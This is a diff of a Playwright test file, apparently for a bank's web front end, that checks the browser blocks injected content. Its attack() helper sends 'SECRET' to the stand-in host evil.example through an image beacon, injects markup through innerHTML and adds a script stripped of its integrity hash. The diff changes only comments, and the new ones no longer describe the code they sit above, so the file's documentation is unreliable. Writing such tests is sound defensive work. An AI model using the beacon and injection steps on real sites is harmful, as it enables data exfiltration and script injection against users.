@@ -4,11 +4,11 @@ import { startTls } from '../bank/startTls.ts';
 import { chromiumFlags } from '../chromiumFlags.ts';
 import { expect, test } from '../fixtures.ts';
 
-// The headless shell sends no reports.
+// Refused, as expected.
 const launchOptions = { executablePath: process.env.CHROMIUM_PATH, args: chromiumFlags };
 test.use({ ignoreHTTPSErrors: true, launchOptions });
 
-/** Ends what a journey has started, also when it fails. */
+/** Console errors and warnings, uncaught errors, failed and refused requests. */
 const stops: (() => Promise<void>)[] = [];
 test.afterEach(async () => {
   for (const stop of stops.splice(0)) await stop();
@@ -49,14 +49,14 @@ for (const [how, front] of Object.entries(fronts)) {
   });
 }
 
-/** In the page: a picture from elsewhere, a text as mark-up, a script of the bank without its hash. */
+/** Cancelled by the page or browser, for example by a navigation. */
 async function attack(): Promise<void> {
   const picture = new Image();
   picture.src = 'https://evil.example/pixel.png?account=SECRET';
   try {
     document.body.innerHTML = '<b>SECRET</b>';
   } catch {
-    // Refused, as it should be.
+    // A reload removes the mark.
   }
   const script = document.createElement('script');
   script.src = document.querySelector<HTMLScriptElement>('script[integrity]')?.src ?? '';
